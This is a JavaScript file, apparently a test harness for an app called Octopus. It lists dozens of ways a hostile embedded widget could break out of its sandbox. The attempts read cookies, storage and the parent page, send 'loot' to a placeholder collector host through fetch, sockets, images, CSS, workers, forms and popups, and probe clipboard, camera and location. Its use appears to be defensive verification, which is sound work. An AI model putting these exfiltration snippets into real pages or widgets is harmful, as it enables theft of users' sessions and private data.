// What a hostile widget tries, by name. Each attempt gives what it got; what throws or is null got nothing.
const OUT = "__COLLECTOR__";
const url = (how) => `${OUT}/${how}?loot=1`;
const add = (element) => document.body.append(element) ?? element;
const make = (name, properties) => Object.assign(document.createElement(name), properties);
const svg = (name, attributes) => {
  const element = document.createElementNS("http://www.w3.org/2000/svg", name);
  for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
  return element;
};
const soon = (promise) => Promise.race([promise, new Promise((settle) => setTimeout(() => settle(null), 600))]);
const event = (target, yes, no) =>
  soon(new Promise((settle, fail) => { target[yes] = () => settle(yes); target[no] = () => fail(new Error(no)); }));
const link = (rel) => add(make("link", { rel, href: url(rel) })) && `a link ${rel}`;

const ATTEMPTS = {
  // The sign-in and what is stored
  "local storage": () => JSON.stringify(localStorage),
  "session storage": () => JSON.stringify(sessionStorage),
  cookies: () => document.cookie,
  "indexed database": () => new Promise((settle, fail) => { const r = indexedDB.open("x"); r.onsuccess = () => settle("open"); r.onerror = () => fail(r.error); }),
  caches: async () => (await caches.open("x")) && "open",
  "service worker": async () => (await navigator.serviceWorker.register("/sw.js")) && "registered",
  locks: async () => (await navigator.locks.query()) && "queried",
  channel: () => new BroadcastChannel("octopus-session") && "a channel",
  "page's document": () => parent.document.title,
  "top's document": () => top.document.title,
  "page's address": () => parent.location.href,
  "page's storage": () => JSON.stringify(parent.localStorage),
  "page's Octopus": () => typeof parent.Octopus.host,
  "page's config": () => JSON.stringify(top.config),
  opener: () => opener && opener.document.title,
  "frame element": () => frameElement && frameElement.id,
  referrer: () => document.referrer.replace(/^https?:\/\/[^/]*\/?$/, ""),
  // Other widgets
  siblings: () => [...Array(parent.length).keys()].map((at) => parent[at]).filter((one) => one !== window).map((one) => one.document.title).join(),
  // The network
  fetch: async () => (await fetch(url("fetch"), { mode: "no-cors" })).type,
  "fetch of the API": async () => (await fetch("/graphql", { method: "POST", body: "{}" })).status,
  request: () => { const r = new XMLHttpRequest(); r.open("GET", url("xhr")); r.send(); return event(r, "onload", "onerror"); },
  socket: () => event(new WebSocket(OUT.replace("http", "ws") + "/socket"), "onopen", "onerror"),
  "socket of the API": () => event(new WebSocket(location.origin.replace("null", OUT) + "/graphql"), "onopen", "onerror"),
  events: () => event(new EventSource(url("events")), "onopen", "onerror"),
  beacon: () => { navigator.sendBeacon(url("beacon"), "loot"); return null; },
  transport: () => new WebTransport(OUT.replace("http:", "https:")) && "a transport",
  peers: () => { const p = new RTCPeerConnection({ iceServers: [{ urls: `stun:${OUT.slice(7)}` }] }); p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o)); return "a peer"; },
  image: () => event(Object.assign(new Image(), { src: url("image") }), "onload", "onerror"),
  "image set": () => { add(make("img", { srcset: `${url("srcset")} 2x` })); return null; },
  "input image": () => { add(make("input", { type: "image", src: url("input") })); return null; },
  video: () => { add(make("video", { src: url("video"), poster: url("poster"), autoplay: true })); return null; },
  audio: () => { new Audio(url("audio")).play().catch(() => {}); return null; },
  "vector image": () => { const s = svg("svg", {}); s.append(svg("image", { href: url("svg") }), svg("use", { href: `${url("use")}#a` })); const f = svg("filter", { id: "f" }); f.append(svg("feImage", { href: url("feimage") })); s.append(f, svg("rect", { width: 9, height: 9, filter: "url(#f)" })); add(s); return null; },
  "style's picture": () => { add(make("div", { textContent: "." })).style.backgroundImage = `url(${url("style")})`; return null; },
  "style sheet": () => { const s = new CSSStyleSheet(); s.replaceSync(`body::after { content: url(${url("sheet")}) } @font-face { font-family: F; src: url(${url("font")}) } body { font-family: F } `); document.adoptedStyleSheets.push(s); return null; },
  "style import": async () => { const s = new CSSStyleSheet(); await s.replace(`@import url(${url("import")});`); document.adoptedStyleSheets.push(s); return null; },
  "style element": () => { add(make("style", { textContent: `@import url(${url("element")});` })); return null; },
  font: async () => (await new FontFace("G", `url(${url("face")})`).load()).status === "loaded" && "loaded",
  module: async () => Object.keys(await import(url("module"))).length,
  script: () => event(add(make("script", { src: url("script") })), "onload", "onerror"),
  "inline script": () => { window.ran = ""; add(make("script", { textContent: "window.ran = 'ran'" })); return window.ran; },
  rules: () => { add(make("script", { type: "speculationrules", textContent: `{"prefetch":[{"source":"list","urls":["${url("rules")}"]}]}` })); return null; },
  worker: () => new Worker(URL.createObjectURL(new Blob([`fetch("${url("worker")}")`]))) && "a worker",
  "shared worker": () => new SharedWorker(url("shared")) && "a worker",
  worklet: async () => { await CSS.paintWorklet.addModule(url("worklet")); return "a worklet"; },
  "audio worklet": async () => { await new OfflineAudioContext(1, 9, 44100).audioWorklet.addModule(url("audioworklet")); return "a worklet"; },
  eval: () => (0, eval)("'evaluated'"),
  function: () => new Function("return 'evaluated'")(),
  timer: () => { setTimeout("window.ran = 'timer'"); return null; },
  markup: () => { document.body.insertAdjacentHTML("beforeend", `<img src="${url("markup")}">`); return "markup"; },
  write: () => { document.write(`<img src="${url("write")}">`); return "written"; },
  parser: () => new DOMParser().parseFromString(`<link rel=preconnect href=${OUT}>`, "text/html") && "parsed",
  fragment: () => document.createRange().createContextualFragment(`<link rel=preconnect href=${OUT}>`) && "parsed",
  // Hints, which no policy forbids
  preconnect: () => link("preconnect"),
  "dns-prefetch": () => link("dns-prefetch"),
  prefetch: () => link("prefetch"),
  preload: () => link("preload"),
  "link of another case": () => document.createElement("LiNk") && "a link",
  "link with a prefix": () => document.createElementNS("http://www.w3.org/1999/xhtml", "x:link") && "a link",
  "link in disguise": () => { let said = 0; return document.createElement({ toString: () => (said++ ? "link" : "div") }).tagName === "LINK" && "a link"; },
  "link by a document": () => document.implementation.createDocument("http://www.w3.org/1999/xhtml", "link") && "a link",
  "link by its class": () => { customElements.define("x-link", class extends HTMLLinkElement {}, { extends: "link" }); return "a link"; },
  "link by a style sheet": () => new XSLTProcessor() && "a processor",
  "first method": () => { delete Document.prototype.createElement; return Document.prototype.createElement.call(document, "link") && "a link"; },
  // Windows
  popup: () => open(url("popup")) && "a window",
  "window above": () => { top.location = url("top"); return null; },
  "link above": () => { add(make("a", { href: url("above"), target: "_top" })).click(); return null; },
  "link aside": () => { add(make("a", { href: url("aside"), target: "_blank", rel: "opener" })).click(); return null; },
  ping: () => { const a = add(make("a", { href: "#x", ping: url("ping") })); a.click(); return null; },
  download: () => { add(make("a", { href: URL.createObjectURL(new Blob(["x"])), download: "x" })).click(); return null; },
  form: () => { const f = add(make("form", { action: url("form"), method: "post", target: "_blank" })); f.append(make("input", { name: "loot", value: "1" })); f.submit(); return null; },
  "form with a click": () => { const f = add(make("form", { action: url("form2") })); const b = make("button", {}); f.append(b); b.click(); f.requestSubmit(); return null; },
  frame: () => add(make("iframe", { src: url("frame") })) && "a frame",
  object: () => add(make("object", { data: url("object") })) && "an object",
  refresh: () => document.head.append(make("meta", { httpEquiv: "refresh", content: `0;url=${url("refresh")}` })) ?? "a refresh",
  dialog: () => { alert("your password?"); return null; },
  // The machine
  clipboard: async () => (await navigator.clipboard.readText()) || "read",
  place: () => new Promise((settle, fail) => navigator.geolocation.getCurrentPosition(() => settle("here"), (e) => fail(new Error(e.message)))),
  notification: async () => (await Notification.requestPermission()) === "granted" && "granted",
  camera: async () => (await navigator.mediaDevices.getUserMedia({ video: true })) && "a camera",
};

async function tryAll() {
  const report = {};
  await Promise.all(Object.entries(ATTEMPTS).map(async ([name, attempt]) => {
    try {
      const got = await soon(Promise.resolve(attempt()));
      report[name] = got === null || got === undefined || got === "" || got === false ? null : String(got);
    } catch (error) {
      report[name] = null;
    }
  }));
  return report;
}
